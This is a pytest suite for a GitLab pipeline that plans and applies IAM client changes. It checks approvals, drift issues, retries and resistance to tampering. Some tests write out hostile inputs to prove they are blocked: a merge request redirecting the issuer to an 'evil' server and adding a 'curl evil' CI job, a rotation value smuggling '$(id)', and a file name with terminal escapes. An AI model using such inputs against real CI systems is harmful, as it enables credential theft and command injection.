"""The pipeline for GitLab, job by job: planned, reviewed, merged, applied, rendered elsewhere, and what goes wrong."""

from __future__ import annotations

import json
import os
import re
import signal
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from iac.cli import run
from iac.sandbox.fault import Fault, FaultKind
from tests.workflow.pipelines.conftest import READER, WRITER, check_silence, needs_tools
from tests.workflow.pipelines.gitlab import TOKEN, GitLab
from tests.workflow.pipelines.site import serve
from tests.workflow.pipelines.test_github import free_lock

if TYPE_CHECKING:
    import subprocess
    from collections.abc import Iterator

    from iac.sandbox.message import Request, Response
    from tests.workflow.pipelines.hub import Hub

pytestmark = needs_tools


@pytest.fixture
def gitlab(hub: Hub) -> Iterator[GitLab]:
    """A project with the pipeline on its default branch, variables set up as the page says, nothing applied."""
    gitlab = GitLab(hub)
    hub.make("gitlab")
    identity = {"IAC_AGE_IDENTITY": hub.identity}
    gitlab.protected = {
        "*": {"IAC_GITLAB_TOKEN": TOKEN},
        "iac-plan": READER,
        "iac-apply": {**WRITER, **identity},
        "iac-render": identity,
    }
    with serve(gitlab.answer) as site:
        gitlab.url = site.url
        yield gitlab
    told = [each["body"] for each in gitlab.notes.values()] + [each["description"] for each in gitlab.issues.values()]
    check_silence(hub, told, [TOKEN])


def propose(gitlab: GitLab, iid: int = 1, **values: object) -> None:
    """A merge request that changes the portal's definition."""
    gitlab.hub.branch(f"change-{iid}")
    gitlab.hub.define("portal", **(values or {"contacts": ["ops@example.org"]}))
    gitlab.hub.commit("a change")
    gitlab.open_request(iid, f"change-{iid}")


def planned(gitlab: GitLab, iid: int = 1) -> str:
    """The note that the scheduled pipeline leaves."""
    jobs = gitlab.run("schedule", IAC_JOB="plan")
    assert ["iac-plan"] == list(jobs)
    assert "success" == jobs["iac-plan"].result, jobs["iac-plan"].log
    (body,) = notes(gitlab, iid, "<!-- iac-plan ")
    return body


def notes(gitlab: GitLab, iid: int, mark: str) -> list[str]:
    return [each["body"] for each in gitlab.notes.values() if each["iid"] == iid and each["body"].startswith(mark)]


def registered(gitlab: GitLab) -> list[str]:
    return [
        each.client_id or "" for each in gitlab.hub.sandbox.iam.world.store.clients() if "portal" in str(each.client_id)
    ]


@pytest.fixture
def reviewed(gitlab: GitLab) -> GitLab:
    """A merge request that was planned and merged."""
    propose(gitlab)
    planned(gitlab)
    gitlab.merge_request(1)
    return gitlab


def test_a_change_is_planned_reviewed_merged_applied_and_rendered_on_another_runner(gitlab: GitLab) -> None:
    propose(gitlab, client_name="Data portal")
    checked = gitlab.run("merge_request_event", iid=1)
    assert {"iac-validate": "success"} == {name: job.result for name, job in checked.items()}
    first = planned(gitlab)
    assert "1 to create" in first
    assert planned(gitlab) == first, "a commit that has its plan is not planned again"
    gitlab.hub.define("portal", client_name="Portal of data")
    gitlab.hub.commit("another name")
    gitlab.open_request(1, "change-1")
    assert "Portal of data" in planned(gitlab)
    assert 1 == len(gitlab.notes)
    assert [] == registered(gitlab)
    gitlab.merge_request(1)
    jobs = gitlab.run("push", IAC_RENDER_RUNNER="host-of-services")
    assert {"iac-apply": "success", "iac-render": "success"} == {name: job.result for name, job in jobs.items()}, jobs[
        "iac-apply"
    ].log
    assert ["portal"] == registered(gitlab)
    rendered = jobs["iac-render"].folder
    assert rendered != jobs["iac-apply"].folder
    assert gitlab.hub.secret("portal") in (rendered / "out/portal.env").read_text()


def test_a_change_on_the_server_after_the_review_stops_with_4_and_needs_another_approval(reviewed: GitLab) -> None:
    reviewed.run("push")
    propose(reviewed, 2, client_name="Data portal")
    planned(reviewed, 2)
    reviewed.merge_request(2)
    store = reviewed.hub.sandbox.iam.world.store
    by_hand = store.find("portal")
    assert by_hand
    store.put(replace(by_hand, client_name="By hand", scope=("openid",)))
    assert "exit 4" in reviewed.run("push")["iac-apply"].log
    assert "By hand" == getattr(store.find("portal"), "client_name", "")
    (told,) = notes(reviewed, 2, "<!-- iac-apply ")
    (digest,) = re.findall(r"Digest `(sha256:\w+)`", told)
    assert {} == reviewed.run("web")
    assert "success" == reviewed.run("web", IAC_DIGEST=digest)["iac-apply"].result
    assert "Data portal" == getattr(store.find("portal"), "client_name", "")


def test_a_runner_that_is_lost_in_the_middle_is_followed_by_one_that_finishes(reviewed: GitLab) -> None:
    server = reviewed.hub.sandbox.server
    running: list[subprocess.Popen[str]] = []
    reviewed.started = running.append
    honest = server.answer

    def answer(request: Request) -> Response:
        response = honest(request)
        if request.method == "POST" and request.path == "/iam/api/clients":
            os.killpg(running[-1].pid, signal.SIGKILL)
        return response

    server.answer = answer  # type: ignore[method-assign]
    assert "failed" == reviewed.run("push")["iac-apply"].result
    secret = reviewed.hub.secret("portal")
    assert secret
    server.answer = honest  # type: ignore[method-assign]
    free_lock(reviewed.hub)
    again = reviewed.run("push")["iac-apply"]
    assert "success" == again.result, again.log
    assert ["portal"] == registered(reviewed)
    assert secret in (again.folder / "out/portal.env").read_text()


@pytest.mark.live
def test_what_was_applied_in_part_is_tried_again_with_the_same_approval(reviewed: GitLab) -> None:
    fault = Fault(kind=FaultKind.STATUS, method="POST", path="/iam/api/clients", status=400, body="json", times=1)
    reviewed.hub.sandbox.faults.add(fault)
    job = reviewed.run("push")["iac-apply"]
    assert ("success", True) == (job.result, "applied in part" in job.log)
    assert ["portal"] == registered(reviewed)


def test_a_note_that_leads_to_a_job_of_others_or_to_another_plan_does_not_count(reviewed: GitLab) -> None:
    """Somebody edits the note: it names a job that the merge request's author wrote, or the plan of another commit."""
    ((number, job),) = [(number, job) for number, job in reviewed.jobs.items() if job["name"] == "iac-plan"]
    reviewed.jobs[number] = {**job, "ref": "refs/merge-requests/1/head"}
    assert "exit 4" in reviewed.run("push")["iac-apply"].log
    reviewed.jobs[number] = job
    file = reviewed.hub.folder / f"artifacts/{number}/iac-ci/report.json"
    kept = file.read_text()
    file.write_text(kept.replace(reviewed.requests[1]["sha"], "0" * 40))
    assert "exit 4" in reviewed.run("push")["iac-apply"].log
    assert [] == registered(reviewed)
    file.write_text(kept)
    assert "success" == reviewed.run("push")["iac-apply"].result


@pytest.mark.live
def test_a_merge_request_that_changes_settings_is_planned_with_those_of_the_base(gitlab: GitLab) -> None:
    with serve(lambda _: {}) as evil:
        gitlab.hub.branch("change-1")
        file = gitlab.hub.clone / "iac.yaml"
        text = file.read_text().replace(gitlab.hub.sandbox.issuer, f"{evil.url}/")
        file.write_text(text.replace("IAC_CLIENT_SECRET", "IAC_GITLAB_TOKEN"))
        (gitlab.hub.clone / ".gitlab/iac.gitlab-ci.yml").write_text("iac-plan: {script: [curl evil]}\n")
        gitlab.hub.commit("evil")
        gitlab.open_request(1, "change-1")
        said = planned(gitlab)
        assert [] == evil.asked
    for setting in ("issuer", "auth.client_secret.env"):
        assert re.search(rf"\*\*warning\*\* `settings-changed` `iac\.yaml:\d+:\d+`: `{re.escape(setting)} is ", said)


@pytest.mark.live
def test_one_request_that_cannot_be_planned_does_not_keep_the_others_from_it(gitlab: GitLab) -> None:
    propose(gitlab, 1, grant_types=["no-such-grant"])
    for number in range(600):
        (gitlab.hub.clone / f"clients.d/wrong-{number}.yaml").write_text("colour: [blue, green]\nshape: round\n")
    gitlab.hub.commit("more mistakes than anybody reads")
    gitlab.open_request(1, "change-1")
    propose(gitlab, 2, client_name="Data portal")
    gitlab.run("schedule", IAC_JOB="plan")
    (refused,) = notes(gitlab, 1, "<!-- iac-plan ")
    assert "### No plan" in refused
    assert "mistakes in the configuration" in refused
    assert len(refused) < 100_000  # the limit of a note: long lists are cut with a count before it
    assert "1 to create" in notes(gitlab, 2, "<!-- iac-plan ")[0]
    (file,) = (gitlab.hub.folder / "artifacts").rglob("report.json")
    assert [2] == [plan["number"] for plan in json.loads(file.read_text())["plans"]]


@pytest.mark.live
def test_a_server_that_does_not_answer_is_asked_again_by_the_next_run(gitlab: GitLab) -> None:
    propose(gitlab)
    gitlab.hub.sandbox.faults.add(Fault(kind=FaultKind.STATUS, path="/token", status=401, times=1))
    assert "exit 6" in gitlab.run("schedule", IAC_JOB="plan")["iac-plan"].log
    assert {} == gitlab.notes
    planned(gitlab)


def test_nothing_with_credentials_runs_for_a_merge_request_or_without_being_asked(gitlab: GitLab) -> None:
    propose(gitlab)
    every = {"IAC_JOB": "plan", "IAC_DIGEST": "x", "IAC_ROTATE": "portal", "IAC_RENDER_RUNNER": "x"}
    assert ["iac-validate"] == list(gitlab.run("merge_request_event", iid=1, **every))
    assert {} == gitlab.run("schedule")
    waiting = gitlab.run("schedule", IAC_JOB="plan", IAC_ASK_BEFORE_PLAN="1")
    assert {"iac-plan": "manual"} == {name: job.result for name, job in waiting.items()}
    assert ["iac-plan"] == list(gitlab.run("trigger"))


def test_drift_is_reported_in_one_issue_accepted_and_the_issue_closed(
    reviewed: GitLab, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub = reviewed.hub
    reviewed.run("push")
    assert "success" == reviewed.run("schedule", IAC_JOB="nightly")["iac-nightly"].result
    assert {} == reviewed.issues
    store = hub.sandbox.iam.world.store
    for name in ("Changed by hand", "Changed again"):
        found = store.find("portal")
        assert found
        store.put(replace(found, client_name=name))
        reviewed.run("schedule", IAC_JOB="nightly")
    (issue,) = reviewed.issues.values()
    assert ("opened", True) == (issue["state"], "Changed again" in issue["description"])
    hub.branch("accept")
    for name, value in READER.items():
        monkeypatch.setenv(name, value)
    assert 0 == run(["-C", str(hub.clone), "drift", "--accept", "portal"])
    hub.commit("accept")
    reviewed.open_request(2, "accept")
    planned(reviewed, 2)
    reviewed.merge_request(2)
    assert "success" == reviewed.run("push")["iac-apply"].result
    reviewed.run("schedule", IAC_JOB="nightly")
    assert "closed" == issue["state"]


@pytest.mark.live
def test_a_rotation_by_hand_gives_a_new_secret(reviewed: GitLab) -> None:
    reviewed.run("push")
    before = reviewed.hub.secret("portal")
    assert "failed" == reviewed.run("web", IAC_ROTATE="portal $(id)")["iac-apply"].result
    assert before == reviewed.hub.secret("portal")
    assert "success" == reviewed.run("web", IAC_ROTATE="portal", IAC_REVOKE="true")["iac-apply"].result
    assert before != reviewed.hub.secret("portal")


def test_names_of_files_move_no_terminal_where_a_merge_fails(gitlab: GitLab) -> None:
    hub, name = gitlab.hub, "clients.d/x\r\x1b[2Jy"
    hub.rename("change-1", name)
    gitlab.open_request(1, "change-1")
    hub.change_meanwhile()
    plan = gitlab.run("schedule", IAC_JOB="plan")["iac-plan"]
    (body,) = notes(gitlab, 1, "<!-- iac-plan ")
    assert ("success", True, True) == (plan.result, "CONFLICT" in plan.log, "CONFLICT" in body)
    assert "\x1b" not in plan.log + body
